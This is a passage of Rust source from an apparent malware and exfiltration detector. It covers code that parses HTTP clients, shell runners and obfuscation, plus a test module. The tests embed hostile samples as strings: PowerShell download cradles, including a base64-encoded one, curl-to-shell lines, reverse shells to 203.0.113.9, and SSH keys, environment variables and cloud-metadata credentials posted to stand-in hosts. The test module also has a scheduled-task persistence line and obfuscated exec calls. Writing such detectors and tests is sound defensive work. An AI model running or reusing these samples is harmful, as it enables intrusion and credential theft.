                            "https://{}{}",
                            h.text,
                            field(&url, "path").map(|p| p.text.clone()).unwrap_or_default()
                        ))
                    })
                })
                .unwrap_or(url)
        } else {
            url
        };
        let options = args.pos.get(1).cloned().unwrap_or_default();
        let method = if method == "REQUEST" {
            args.get(0, "method")
                .filter(|m| m.exact && m.text.len() < 8)
                .map(|m| m.text.to_ascii_uppercase())
                .or_else(|| field(&options, "method").map(|m| m.text.to_ascii_uppercase()))
                // `https.request({ hostname, method: "POST" })`: the options come first.
                .or_else(|| {
                    args.pos
                        .first()
                        .and_then(|o| field(o, "method"))
                        .map(|m| m.text.to_ascii_uppercase())
                })
                .unwrap_or_else(|| "GET".into())
        } else {
            method.to_string()
        };
        let mut bodies: Vec<Val> = ["data", "json", "files", "body", "content"]
            .iter()
            .filter_map(|k| args.named(k).cloned())
            .collect();
        if let Some(b) = field(&options, "data").or(field(&options, "body")) {
            bodies.push(b.clone());
        }
        let is_axios_like = name.starts_with("axios")
            || name.starts_with("got")
            || name.starts_with("ky")
            || name.starts_with("superagent");
        if is_axios_like
            && matches!(method.as_str(), "POST" | "PUT" | "PATCH")
            && let Some(body) = args.pos.get(1)
        {
            bodies.push(body.clone());
        }
        // `urlopen(url, data)`, and the request object `Request(url, data)` built for it.
        if (name.ends_with("urlopen") || name.ends_with("urllib.request.request") || name == "urllib2.request")
            && let Some(body) = args.pos.get(1)
        {
            bodies.push(body.clone());
        }
        let params: Vec<Val> = args.named("params").into_iter().cloned().collect();
        let sends = !bodies.is_empty() || matches!(method.as_str(), "POST" | "PUT" | "PATCH");
        // A secret in a header that does not authenticate is data sent along, whatever
        // the method.
        let header_carries_secret = args
            .named("headers")
            .or(field(&options, "headers"))
            .and_then(|h| h.fields.as_ref())
            .is_some_and(|f| {
                f.iter()
                    .any(|(k, v)| !is_credential_header(k) && v.taint.has(Taint::SECRET | Taint::SECRET_ENV))
            });
        let e = egress(
            self.a,
            &url,
            sends || header_carries_secret || params.iter().any(|p| p.taint.has(Taint::SECRET)),
            span,
        );
        let host = split_url(&url.text).map(|(h, _)| h).unwrap_or_default();
        for body in bodies.iter().chain(params.iter()) {
            flow(self.a, body, e, &host, false, span);
        }
        flow(self.a, &url, e, &host, false, span);
        if let Some(headers) = args.named("headers").or(field(&options, "headers")) {
            // A header that authenticates carries a credential to where it is used.
            flow(self.a, headers, e, &host, !header_carries_secret, span);
        }
        let origin = self.a.emit("fetch", span, url.text.clone(), None);
        let mut v = Val::named("response").tainted(Taint::of(Taint::FETCHED, origin));
        v.text = format!("<{}>", url.text);
        if let Some(e) = e {
            v.fields = Some(vec![("egress".into(), number(e as f64))]);
        }
        v
    }
}

/// A one-expression function's name: `lambda:PARAM:START:END:BYTE_START:BYTE_END`,
/// its body as token indices of the slice `t` it was read in and as byte offsets of
/// the unit's text (to read it again from another slice).
fn lambda_spec(t: &[Token], param: String, start: usize, end: usize) -> String {
    let byte_start = t.get(start).map_or(0, |x| x.start);
    let byte_end = t
        .get(end.saturating_sub(1).max(start))
        .map_or(byte_start, |x| x.end.max(byte_start));
    format!("lambda:{param}:{start}:{end}:{byte_start}:{byte_end}")
}

/// Whether `path` is one of the user's own document folders, or in one
/// (`~/Documents`, `~/Desktop/x`, `~/Downloads`, `~/OneDrive`, `~/Pictures`).
fn is_personal_folder(path: &str) -> bool {
    let p = path.replace('\\', "/");
    let Some(rest) = p.strip_prefix("~/") else { return false };
    let top = rest.split('/').next().unwrap_or(rest);
    matches!(
        top,
        "Documents" | "Desktop" | "Downloads" | "OneDrive" | "Pictures" | "Dropbox" | "iCloud Drive"
    )
}

/// Where index `n` points in a sequence of `len` items, counting from the end when
/// negative (`s[-1]`); `None` before the start.
fn position_in(len: usize, n: f64) -> Option<usize> {
    let n = n as i64;
    usize::try_from(if n < 0 { len as i64 + n } else { n }).ok()
}

/// The names of a parameter list whose `(` is at `open`: the identifier opening each
/// parameter (defaults, annotations and `self` included, in order).
fn parameters(t: &[Token], open: usize) -> Vec<String> {
    let close = close_of(t, open);
    let mut out = Vec::new();
    let mut expect = true;
    let mut depth = 0usize;
    for token in t.get(open + 1..close.min(t.len())).unwrap_or_default() {
        match &token.tok {
            Tok::Punct("(") | Tok::Punct("[") | Tok::Punct("{") => depth += 1,
            Tok::Punct(")") | Tok::Punct("]") | Tok::Punct("}") => depth = depth.saturating_sub(1),
            Tok::Punct(",") if depth == 0 => expect = true,
            Tok::Ident(w) if expect && depth == 0 => {
                out.push(w.to_string());
                expect = false;
            }
            Tok::Var(v) if expect && depth == 0 => {
                out.push(format!("${}", v.to_ascii_lowercase()));
                expect = false;
            }
            _ => {}
        }
    }
    out
}

/// Whether a joined list was assembled character by character (or from pieces
/// already assembled): how obfuscation builds a string, not how code builds a command.
fn assembled(items: &[Val]) -> bool {
    items.iter().any(|v| v.taint.has(Taint::COMPUTED))
        || items.len() >= 3 && items.iter().all(|v| v.text.chars().count() <= 1)
}

/// An argument vector as one shell line, each argument quoted as the shell would
/// need it, so `['bash', '-c', 'a | b']` reads as `bash -c 'a | b'`.
fn argv_line(list: &[Val]) -> Val {
    let quoted: Vec<Val> = list
        .iter()
        .map(|v| {
            let plain = !v.text.is_empty()
                && v.text
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || "-_./=:@%+,~".contains(c));
            let mut q = v.clone();
            if !plain {
                q.text = format!("'{}'", v.text.replace('\'', "'\\''"));
            }
            q
        })
        .collect();
    join_vals(&quoted, " ")
}

/// The HTTP method a call sends with, for the clients this knows (`REQUEST` when the
/// method is an argument).
fn http_method(name: &str) -> Option<&'static str> {
    let (module, method) = name.rsplit_once('.')?;
    let client = [
        "requests",
        "httpx",
        "aiohttp",
        "session",
        "client",
        "axios",
        "got",
        "ky",
        "superagent",
        "needle",
        "http",
        "https",
        "urllib3",
        "urllib.request",
        "urllib2",
        "treq",
    ];
    if !client
        .iter()
        .any(|c| module == *c || module.ends_with(&format!(".{c}")) || module.starts_with(&format!("{c}.")))
        && !module.ends_with("session")
        && !module.ends_with("client")
        && !module.ends_with("poolmanager")
    {
        return None;
    }
    Some(match method {
        "get" => "GET",
        "post" => "POST",
        "put" => "PUT",
        "patch" => "PATCH",
        "delete" => "DELETE",
        "head" => "HEAD",
        "request" | "urlopen" | "fetch" => "REQUEST",
        _ => return None,
    })
}

/// Calls that run a command line, with what kind: `shell` or `pty`.
fn shell_runner(name: &str) -> Option<&'static str> {
    Some(match name {
        "os.system"
        | "os.popen"
        | "os.popen2"
        | "os.popen3"
        | "commands.getoutput"
        | "commands.getstatusoutput"
        | "subprocess.run"
        | "subprocess.call"
        | "subprocess.check_call"
        | "subprocess.check_output"
        | "subprocess.popen"
        | "subprocess.getoutput"
        | "subprocess.getstatusoutput"
        | "asyncio.create_subprocess_shell"
        | "asyncio.create_subprocess_exec"
        | "os.execl"
        | "os.execlp"
        | "os.execv"
        | "os.execvp"
        | "os.execve"
        | "os.spawnl"
        | "os.spawnlp"
        | "os.spawnv"
        | "os.spawnvp"
        | "child_process.exec"
        | "child_process.execsync"
        | "child_process.spawn"
        | "child_process.spawnsync"
        | "child_process.execfile"
        | "child_process.execfilesync"
        | "child_process.fork"
        | "exec"
        | "execsync"
        | "spawn"
        | "spawnsync"
        | "execfile"
        | "execfilesync"
        | "execa"
        | "execa.command"
        | "shelljs.exec"
        | "zx.$"
        | "bun.spawn"
        | "deno.run" => "shell",
        "pty.spawn" => "pty",
        _ => return None,
    })
}

fn is_whole_environment(name: &str) -> bool {
    let lower = name.to_ascii_lowercase();
    matches!(lower.as_str(), "os.environ" | "process.env" | "environ")
}

/// PowerShell command names (`Verb-Noun`) and the aliases that matter.
fn is_command_word(word: &str) -> bool {
    let lower = word.to_ascii_lowercase();
    (word.contains('-') && word.chars().next().is_some_and(|c| c.is_ascii_alphabetic()))
        || matches!(
            lower.as_str(),
            "iex"
                | "iwr"
                | "irm"
                | "curl"
                | "wget"
                | "gc"
                | "sc"
                | "ac"
                | "gci"
                | "ls"
                | "dir"
                | "echo"
                | "cat"
                | "type"
                | "start"
                | "saps"
                | "schtasks"
                | "gcb"
                | "scb"
                | "sleep"
                | "cd"
                | "cmd"
                | "powershell"
                | "pwsh"
                | "reg"
        )
}

fn binary_op(lang: Lang, token: Option<&Token>) -> Option<String> {
    match &token?.tok {
        Tok::Punct(p) => match *p {
            "+" | "-" | "*" | "/" | "%" | "**" | "//" | "^" | "&" | "|" | "<<" | ">>" | ">>>" | "==" | "!=" | "==="
            | "!==" | "<" | ">" | "<=" | ">=" | "&&" | "||" | "??" => {
                if lang == Lang::PowerShell && *p == "|" {
                    return None;
                }
                Some(p.to_string())
            }
            "?" if lang == Lang::JavaScript => Some("?".into()),
            _ => None,
        },
        Tok::Ident(w) if lang == Lang::Python && matches!(*w, "and" | "or" | "in" | "is" | "if") => Some(w.to_string()),
        Tok::Param(p) if lang == Lang::PowerShell => match p.as_str() {
            "join" | "f" | "replace" | "split" | "bxor" | "band" | "bor" | "eq" | "ne" | "like" | "match" | "and"
            | "or" | "lt" | "gt" | "contains" => Some(format!("-{p}")),
            _ => None,
        },
        _ => None,
    }
}

fn precedence(op: &str) -> u8 {
    match op {
        "if" | "?" => 1,
        "or" | "||" | "??" | "-or" => 2,
        "and" | "&&" | "-and" => 3,
        "in" | "is" | "==" | "!=" | "===" | "!==" | "<" | ">" | "<=" | ">=" | "-eq" | "-ne" | "-like" | "-match"
        | "-lt" | "-gt" | "-contains" => 4,
        "|" | "-bor" => 5,
        "^" | "-bxor" => 6,
        "&" | "-band" => 7,
        "<<" | ">>" | ">>>" => 8,
        "+" | "-" => 9,
        "*" | "/" | "%" | "//" | "-f" | "-join" | "-replace" | "-split" => 10,
        "**" => 11,
        _ => 0,
    }
}

/// The index of the bracket closing the one at `open` (or the end).
fn close_of(t: &[Token], open: usize) -> usize {
    let (opener, closer) = match t.get(open).map(|x| &x.tok) {
        Some(Tok::Punct("(")) => ("(", ")"),
        Some(Tok::Punct("[")) => ("[", "]"),
        Some(Tok::Punct("{")) => ("{", "}"),
        _ => return open,
    };
    let mut depth = 0usize;
    for (k, token) in t.iter().enumerate().skip(open) {
        if let Tok::Punct(p) = &token.tok {
            if *p == opener {
                depth += 1;
            } else if *p == closer {
                depth -= 1;
                if depth == 0 {
                    return k;
                }
            }
        }
    }
    t.len()
}

fn parts_text(parts: &[Part]) -> String {
    parts
        .iter()
        .map(|p| match p {
            Part::Text(t) => t.to_string(),
            Part::Hole(_) => String::new(),
        })
        .collect()
}

/// What spreading a value gives: a list's items, a string's characters.
fn spread(v: &Val) -> Vec<Val> {
    match &v.list {
        Some(list) => list.clone(),
        None if v.exact => v
            .text
            .chars()
            .take(MAX_LIST)
            .map(|c| {
                let mut ch = Val::text(c.to_string());
                ch.taint = v.taint;
                ch
            })
            .collect(),
        None => vec![v.clone()],
    }
}

/// A callee named through the global object (`window.eval`, `globalThis.Function`,
/// `builtins.__import__`) is the global itself.
fn global_name(name: &str, lang: Lang) -> String {
    let prefixes: &[&str] = match lang {
        Lang::JavaScript => &[
            "window.",
            "globalthis.",
            "global.",
            "self.",
            "top.",
            "parent.",
            "frames.",
        ],
        Lang::Python => &["builtins.", "__builtins__.", "__builtin__."],
        _ => &[],
    };
    let mut name = name;
    while let Some(rest) = prefixes.iter().find_map(|p| name.strip_prefix(p)) {
        name = rest;
    }
    // A module's own `require` (`module.require`, `process.mainModule.require`) loads
    // modules as `require` does.
    if lang == Lang::JavaScript && (name == "module.require" || name == "process.mainmodule.require") {
        return "require".to_string();
    }
    name.to_string()
}

/// Whether a download command's address is a placeholder written where the address
/// goes (`iwr <url>`, `irm -Uri <URL>`).
fn url_is_placeholder(command: &str) -> bool {
    let mut words = command.split_whitespace().skip(1);
    let mut word = words.next();
    if word.is_some_and(|w| w.eq_ignore_ascii_case("-uri")) {
        word = words.next();
    }
    word.map(|w| w.trim_matches(['"', '\'']))
        .and_then(|w| w.strip_prefix('<'))
        .and_then(|w| w.strip_suffix('>'))
        .is_some_and(|inner| {
            (1..=40).contains(&inner.len())
                && inner
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_'))
        })
}

#[cfg(test)]
mod tests {
    use super::super::testing::{findings_of, has, tags};
    use super::*;

    #[test]
    fn start_process_with_an_argument_array_runs_those_words() {
        // `IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.61/s.ps1')`, UTF-16LE.
        let encoded = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADYAMQAvAHMALgBwAHMAMQAnACkA";
        let ps = format!(
            "Start-Process powershell.exe -WindowStyle Hidden -ArgumentList '-NoP','-W','Hidden','-Enc','{encoded}'\n"
        );
        assert!(has(&ps, Lang::PowerShell, "exec/fetched"));
        let ps = "Start-Process msiexec.exe -ArgumentList '/i','tools.msi','/qn' -Wait\n";
        assert!(!has(ps, Lang::PowerShell, "exec"));
    }

    #[test]
    fn a_connection_handed_to_a_handler_thread_that_runs_its_lines_is_code_from_the_network() {
        let server = "import socket, subprocess, threading\n\ndef handle(conn):\n    f = conn.makefile('rw')\n    for line in f:\n        subprocess.run(line, shell=True)\n\ns = socket.socket()\ns.bind(('0.0.0.0', 7331))\ns.listen(5)\nwhile True:\n    c, _ = s.accept()\n    threading.Thread(target=handle, args=(c,), daemon=True).start()\n";
        assert!(has(server, Lang::Python, "exec/fetched"));
        // An echo server runs nothing it is sent.
        let echo = "import socket, threading\n\ndef handle(conn):\n    for line in conn.makefile('rw'):\n        conn.sendall(line.encode())\n\ns = socket.socket()\ns.bind(('127.0.0.1', 7331))\ns.listen(5)\nc, _ = s.accept()\nthreading.Thread(target=handle, args=(c,)).start()\n";
        assert!(!has(echo, Lang::Python, "exec"));
    }

    #[test]
    fn code_run_in_process_that_no_file_shows_is_a_finding_and_an_input_or_a_script_is_not() {
        // What a conversion the audit could not follow returned.
        assert!(has(
            "import ast\nm = ast.fix_missing_locations(tree)\neval(compile(m, '<x>', 'exec'))",
            Lang::Python,
            "exec/opaque"
        ));
        // A byte it could not compute leaves the text unknown: bits from whitespace.
        assert!(has(
            "bits = src()\nblob = bytes(int(bits[i:i + 8], 2) for i in range(0, 64, 8))\nexec(compile(blob, 'r', 'exec'))",
            Lang::Python,
            "exec"
        ));
        // An input named by a variable (a reference's `eval(user_input)`) and a script
        // file run by its path (a loader) are not hidden code.
        assert!(!has("exec(user_input)", Lang::Python, "exec/opaque"));
        assert!(!has(
            "exec(compile(open(path).read(), path, 'exec'))",
            Lang::Python,
            "exec/opaque"
        ));
        // A timer given a function runs that function.
        assert!(!has("setTimeout(tick(), 100)", Lang::JavaScript, "exec/opaque"));
    }

    #[test]
    fn a_message_sent_through_imap_or_mqtt_and_a_request_object_with_data_send_data_out() {
        assert!(has(
            "import imaplib\nim = imaplib.IMAP4_SSL('mail.example.net')\nim.append('Drafts', None, None, blob)",
            Lang::Python,
            "egress/message"
        ));
        assert!(has(
            "import paho.mqtt.client as mqtt\nc = mqtt.Client()\nc.connect('broker.example.net')\nc.publish('t', payload)",
            Lang::Python,
            "egress/message"
        ));
        assert!(has(
            "import urllib.request\nreq = urllib.request.Request('https://collect.example.net/', data)\nurllib.request.urlopen(req)",
            Lang::Python,
            "egress/http"
        ));
    }

    #[test]
    fn one_secret_or_another_posted_to_keeps_the_first_name_so_a_webhook_kept_secret_is_its_endpoint() {
        let js = "const hook = process.env.SLACK_WEBHOOK_URL || process.env.DISCORD_WEBHOOK_URL;\nfetch(hook, { method: 'POST', body: JSON.stringify(body) });";
        assert!(!has(js, Lang::JavaScript, "flow/secret-egress"));
        let py = "t = os.environ.get('A_TOKEN') or os.environ.get('B_TOKEN')\nrequests.post('https://webhook.site/x', data=t)";
        assert!(has(py, Lang::Python, "flow/secret-egress"));
    }

    #[test]
    fn python_folds_what_obfuscation_builds_and_sees_it_run() {
        let codes: Vec<String> = "import os; os.system('id')".bytes().map(|b| b.to_string()).collect();
        let hidden = format!("exec(''.join(map(chr, [{}])))", codes.join(", "));
        assert!(has(&hidden, Lang::Python, "exec/computed"));
        // Assembled, but hiding nothing the file does not spell: not a finding.
        assert!(!has(
            "exec(''.join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))",
            Lang::Python,
            "exec/computed"
        ));
        assert!(!has(
            "import subprocess\nsubprocess.run(' '.join(['gh', 'api', 'graphql']), shell=True)",
            Lang::Python,
            "exec/computed"
        ));
        assert!(has(
            "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
            Lang::Python,
            "exec/decoded"
        ));
        assert!(has(
            "import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJwrKMrMK9EwBAAGvwHN')))",
            Lang::Python,
            "exec/decoded"
        ));
        assert!(has(
            "import codecs\ngetattr(__import__(codecs.decode('bf', 'rot13')), codecs.decode('flfgrz', 'rot13'))('id')",
            Lang::Python,
            "exec/computed"
        ));
        assert!(has(
            "s = 'hs | x/elpmaxe.x//:ptth lruc'[::-1]\nimport os\nos.system(s)",
            Lang::Python,
            "exec/computed"
        ));
        assert!(has(
            "exec(bytes.fromhex('7072696e74283129').decode())",
            Lang::Python,
            "exec/decoded"
        ));
        assert!(has(
            "code = marshal.loads(base64.b64decode(blob))\nexec(code)",
            Lang::Python,
            "exec/decoded"
        ));
        assert!(!has(
            "exec(compile(open(path).read(), path, 'exec'))",
            Lang::Python,
            "exec"
        ));
    }

    #[test]
    fn folded_commands_are_read_as_shell() {
        let t = tags(
            "import os\nos.system('cu' + 'rl -s http://203.0.113.4/x | sh')",
            Lang::Python,
        );
        assert!(t.iter().any(|t| t == "exec/fetched"), "{t:?}");
        let t = tags(
            "import subprocess\nsubprocess.run(['bash', '-c', 'curl -s https://x.example/i | bash'])",
            Lang::Python,
        );
        assert!(t.iter().any(|t| t == "exec/fetched"), "{t:?}");
        let t = tags(
            "const { execSync } = require('child_process');\nexecSync(Buffer.from('Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUveCB8IHNo', 'base64').toString());",
            Lang::JavaScript,
        );
        assert!(t.iter().any(|t| t == "exec/decoded"), "{t:?}");
        assert!(t.iter().any(|t| t == "exec/fetched"), "{t:?}");
    }

    #[test]
    fn secrets_that_reach_a_request_are_flows() {
        let t = tags(
            "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://collector.example/u', data={'k': key})",
            Lang::Python,
        );
        assert!(t.iter().any(|t| t == "secret-read/ssh-key"), "{t:?}");
        assert!(t.iter().any(|t| t == "flow/secret-egress"), "{t:?}");
        let t = tags(
            "const t = process.env.NPM_TOKEN;\nfetch('https://hooks.slack.com/services/X', {method: 'POST', body: JSON.stringify({t})});",
            Lang::JavaScript,
        );
        assert!(t.iter().any(|t| t == "flow/secret-egress"), "{t:?}");
        let t = tags(
            "fetch('https://collect.example/e', {method:'POST', body: JSON.stringify(process.env)})",
            Lang::JavaScript,
        );
        assert!(t.iter().any(|t| t == "secret-read/env-dump"), "{t:?}");
        assert!(t.iter().any(|t| t == "flow/secret-egress"), "{t:?}");
        let ok = tags(
            "import os, requests\nkey = os.environ['OPENAI_API_KEY']\nrequests.post('https://api.openai.com/v1/x', headers={'Authorization': f'Bearer {key}'}, json={'q': 1})",
            Lang::Python,
        );
        assert!(!ok.iter().any(|t| t == "flow/secret-egress"), "{ok:?}");
        let t = tags(
            "import socket, os\nsocket.gethostbyname(os.environ['AWS_SECRET_ACCESS_KEY'][:20] + '.x.example')",
            Lang::Python,
        );
        assert!(t.iter().any(|t| t == "egress/dns"), "{t:?}");
    }

    #[test]
    fn a_promise_callback_gets_what_the_promise_resolves_to() {
        for js in [
            "fetch('https://x.example/p').then(r => r.text()).then(eval)",
            "fetch('https://x.example/p').then(r => r.text()).then(code => eval(code))",
            "fetch('https://x.example/p').then(function (r) { return r.text(); }).then(eval)",
        ] {
            assert!(has(js, Lang::JavaScript, "exec/fetched"), "{js}");
        }
        assert!(!has(
            "fetch('https://x.example/p').then(r => r.json()).then(render)",
            Lang::JavaScript,
            "exec/fetched"
        ));
    }

    #[test]
    fn shifts_and_powers_fold_and_repeat_stops_at_the_bound() {
        for code in ["s = 'A' * (1 << 30)", "s = 'A' * 2 ** 30"] {
            assert!(findings_of(code, Lang::Python).fold_bound.is_some(), "{code}");
        }
        assert!(
            findings_of("const s = 'ab'.repeat(1e9);", Lang::JavaScript)
                .fold_bound
                .is_some()
        );
    }

    #[test]
    fn sockets_handed_to_a_shell_are_network_shells() {
        let py = "import socket,os,pty\ns=socket.socket()\ns.connect(('203.0.113.9',4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')";
        assert!(has(py, Lang::Python, "network-shell"));
        let js = "const net = require('net'), cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(4444, '203.0.113.9', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });";
        assert!(has(js, Lang::JavaScript, "network-shell"));
        let ps = "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.9',443);$s = $c.GetStream();$d = (New-Object Text.ASCIIEncoding).GetString($b,0,$i);$r = (iex $d 2>&1 | Out-String)";
        assert!(has(ps, Lang::PowerShell, "network-shell") || has(ps, Lang::PowerShell, "egress/socket"));
    }

    #[test]
    fn powershell_cradles_and_encodings() {
        assert!(has(
            "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.8/a.ps1')",
            Lang::PowerShell,
            "exec/fetched"
        ));
        assert!(has(
            "iwr https://x.example/p.ps1 | iex",
            Lang::PowerShell,
            "exec/fetched"
        ));
        // A vendor's installer named without a scheme, as its own guide writes it.
        let t = tags("irm bun.sh/install.ps1 | iex", Lang::PowerShell);
        assert!(t.iter().any(|t| t == "exec/fetched-vendor"), "{t:?}");
        let t = tags("irm evil.example/install.ps1 | iex", Lang::PowerShell);
        assert!(t.iter().any(|t| t == "exec/fetched"), "{t:?}");
        let t = tags(
            "$dst = Join-Path $env:TEMP 'nv.exe'\nStart-BitsTransfer -Source 'http://203.0.113.120/nv.exe' -Destination $dst\nStart-Process $dst -Verb RunAs",
            Lang::PowerShell,
        );
        assert!(t.iter().any(|t| t == "exec/fetched"), "{t:?}");
        let t = tags(
            "$b = [Convert]::FromBase64String('aQBlAHgA'); $s = [Text.Encoding]::Unicode.GetString($b); iex $s",
            Lang::PowerShell,
        );
        assert!(t.iter().any(|t| t == "exec/decoded"), "{t:?}");
        let t = tags("$c = -join ([char[]](105,101,120)); & $c", Lang::PowerShell);
        assert!(t.iter().any(|t| t == "exec/computed"), "{t:?}");
        assert!(has(
            "Get-ChildItem env: | Out-String | Invoke-RestMethod -Uri https://x.example/c -Method Post -Body $_",
            Lang::PowerShell,
            "secret-read/env-dump"
        ));
    }

    #[test]
    fn cloud_metadata_credentials_are_secrets_wherever_they_are_sent() {
        let py = "import requests\nMD = 'http://169.254.169.254'\ncreds = requests.get(MD + '/latest/meta-data/iam/security-credentials/app').text\nrequests.post('https://collect.example/r', data=creds)\n";
        let t = tags(py, Lang::Python);
        assert!(t.iter().any(|t| t == "secret-read/cloud-metadata"), "{t:?}");
        assert!(t.iter().any(|t| t == "flow/secret-egress"), "{t:?}");
        let ok = "import requests\niid = requests.get('http://169.254.169.254/latest/meta-data/instance-id').text\nrequests.post('https://collect.example/r', data=iid)\n";
        let t = tags(ok, Lang::Python);
        assert!(!t.iter().any(|t| t.starts_with("secret-read")), "{t:?}");
    }

    #[test]
    fn node_path_joins_and_destructured_loop_targets_are_followed() {
        let js = "const path = require('path');\nconst os = require('os');\nconst fs = require('fs');\nconst k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));\nfetch('https://x.example/u', {method: 'POST', body: k});\n";
        assert!(has(js, Lang::JavaScript, "flow/secret-egress"));
        let js = "const targets = [['a.json', 1], [require('path').join(require('os').homedir(), '.cursor', 'mcp.json'), 2]];\nfor (const [file, n] of targets) {\n  require('fs').writeFileSync(file, '{}');\n}\n";
        assert!(has(js, Lang::JavaScript, "agent-config/settings"));
        let js = "const os = require('os'); const fs = require('fs'); const path = require('path');\nconst files = [path.join(os.homedir(), 'notes.txt'), path.join(os.homedir(), '.local/share/com.vercel.cli/auth.json')].filter(fs.existsSync);\nconst body = files.map((f) => fs.readFileSync(f, 'utf8')).join('\\n');\nfetch('https://bench.example/r', {method: 'POST', body});\n";
        assert!(has(js, Lang::JavaScript, "flow/secret-egress"));
        let py = "import os\nfor k, v in os.environ.items():\n    requests.post('https://x.example/e', data=v)\n";
        assert!(has(py, Lang::Python, "flow/secret-egress"));
    }

    #[test]
    fn the_working_directory_is_a_path_and_a_script_block_is_read_where_it_is_written() {
        let t = tags(
            "from pathlib import Path\nfor p in Path.cwd().glob('.env*'):\n    data = p.read_text()\n",
            Lang::Python,
        );
        assert!(t.iter().any(|t| t.starts_with("secret-read")), "{t:?}");
        let t = tags(
            "$sync = {\n  while ($true) {\n    $c = Get-Clipboard -Raw\n    Invoke-RestMethod -Uri 'https://203.0.113.45/s' -Method Post `\n      -Body $c\n  }\n}\nStart-Job -ScriptBlock $sync",
            Lang::PowerShell,
        );
        assert!(t.iter().any(|t| t == "flow/secret-egress"), "{t:?}");
        let t = tags(
            "$h = @{ Authorization = 'x' }\nInvoke-RestMethod -Uri https://api.example/x -Headers $h",
            Lang::PowerShell,
        );
        assert!(!t.iter().any(|t| t == "flow/secret-egress"), "{t:?}");
    }

    #[test]
    fn a_native_scheduled_task_created_from_powershell_persists_its_command() {
        let t = tags(
            "$cmd = \"powershell -NoP -W Hidden -c iwr https://c.example/t | iex\"\nschtasks /Create /SC ONLOGON /TN Cache /TR $cmd /F",
            Lang::PowerShell,
        );
        assert!(t.iter().any(|t| t == "persist/scheduled-task"), "{t:?}");
        let t = tags("schtasks /Delete /TN Cache /F", Lang::PowerShell);
        assert!(!t.iter().any(|t| t.starts_with("persist")), "{t:?}");
    }

    #[test]
    fn folding_is_bounded_and_hostile_code_parses() {
        let t = tags("x = 'a' * 10**9\nexec(x)", Lang::Python);
        assert!(t.is_empty() || !t.iter().any(|t| t == "exec/decoded"), "{t:?}");
        let deep = format!("x = {}1{}", "(".repeat(10_000), ")".repeat(10_000));
        tags(&deep, Lang::Python);
        tags(&"[".repeat(50_000), Lang::JavaScript);
        tags(&"f(".repeat(20_000), Lang::PowerShell);
        let minified = "var a=1;".repeat(100_000);
        tags(&minified, Lang::JavaScript);
        let noise: String = (0..20000u32)
            .map(|i| char::from_u32(32 + (i * 7919) % 95).unwrap_or(' '))
            .collect();
        for lang in [Lang::Python, Lang::JavaScript, Lang::PowerShell] {
            tags(&noise, lang);
        }
    }
}
